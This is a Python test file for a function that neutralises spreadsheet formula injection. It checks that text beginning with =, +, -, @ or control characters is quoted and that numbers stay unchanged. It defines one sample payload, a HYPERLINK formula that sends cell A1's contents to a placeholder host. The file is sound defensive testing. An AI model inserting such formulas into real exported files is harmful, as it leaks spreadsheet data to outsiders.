"""No text that someone typed becomes a formula in a file we write."""

from __future__ import annotations

import decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tallrapport.spreadsheet_cells import FORMULA_STARTS, neutralise, neutralised

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Klikk her")'


@pytest.mark.parametrize(
    "text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-5", "=", "-"]
)
def test_text_starting_like_a_formula_is_quoted(text: str) -> None:
    # given text that a spreadsheet would run as a formula
    # when it is neutralised
    safe = neutralise(text)
    # then it is the same text behind a single quote
    assert safe == "'" + text


@pytest.mark.parametrize("value", [5, -5, 0, 2.5, -2.5, decimal.Decimal("-1.5"), None, True])
def test_numbers_and_empty_cells_stay_as_they_are(value: object) -> None:
    # given a number (negative too), a boolean or an empty cell
    # when it is neutralised
    # then it is the very same value, so it stays a number in the file
    assert neutralise(value) is value


@given(st.text())
def test_only_risky_text_changes(text: str) -> None:
    # given any text
    # when it is neutralised
    safe = neutralise(text)
    # then it changed exactly when it starts like a formula, and never starts so after
    assert (safe != text) == text.startswith(FORMULA_STARTS)
    assert not str(safe).startswith(FORMULA_STARTS)


def test_a_row_is_neutralised_cell_by_cell() -> None:
    # given a CSV row mixing a count and typed text
    # when it is neutralised
    # then the count is untouched and the text is quoted
    assert neutralised([3, HOSTILE, "Oslo"]) == [3, "'" + HOSTILE, "Oslo"]
